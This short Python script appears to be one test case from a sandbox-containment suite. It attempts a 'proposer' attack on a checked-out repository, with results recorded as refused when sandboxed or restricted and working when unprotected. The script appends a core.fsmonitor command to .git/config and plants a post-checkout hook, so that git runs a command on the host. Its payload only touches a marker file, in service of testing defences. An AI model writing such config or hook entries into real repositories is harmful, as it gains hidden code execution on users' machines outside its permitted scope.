# attack: writes the repository's configuration and hooks
# group: proposer
# sandboxed: detected (refused)
# restricted: detected (refused)
# unprotected: works (checkout, host, planted)
from prepare import *

def config():
    with open(CHECKOUT + "/.git/config", "a") as file:
        file.write(f"# {MARK}\n[core]\n\tfsmonitor = touch {HOST}/ran; false\n")


attempt(config, lambda: plant(CHECKOUT + "/.git/hooks/post-checkout"))
